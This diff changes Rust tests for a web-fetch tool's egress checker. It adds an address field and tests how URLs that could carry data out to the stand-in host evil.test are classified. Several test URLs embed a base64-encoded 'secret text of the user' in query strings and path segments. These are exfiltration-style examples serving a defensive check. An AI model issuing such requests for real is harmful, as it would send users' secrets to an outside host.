@@ -107,8 +107,11 @@ fn a_url_that_could_carry_data_is_sending() {
     let tool = WebFetch::new(Egress::new(policy).unwrap());
     let outward = |url: String| tool.outward(&json!({"url": url}));
     let data = "c2VjcmV0IHRleHQgb2YgdGhlIHVzZXI".repeat(3);
-    let to = |to: &str, allowed| Some(Outward { to: to.to_owned(), allowed });
-    assert_eq!(outward("https://evil.test/page?id=5".to_owned()), None);
+    let to = |to: &str, allowed| Some(Outward { to: to.to_owned(), allowed, address: None });
+    assert_eq!(outward("https://evil.test/".to_owned()), None);
+    // A key fits into a short address: that depends on where it was found.
+    let short = |url: &str| Some(Outward { to: "evil.test".to_owned(), allowed: false, address: Some(url.to_owned()) });
+    assert_eq!(outward("https://EVIL.test/page?id=5#part".to_owned()), short("https://evil.test/page?id=5"));
     assert_eq!(outward(format!("https://evil.test/?d={data}")), to("evil.test", false));
     assert_eq!(outward(format!("https://evil.test/{data}/{data}/{data}")), to("evil.test", false));
     assert_eq!(
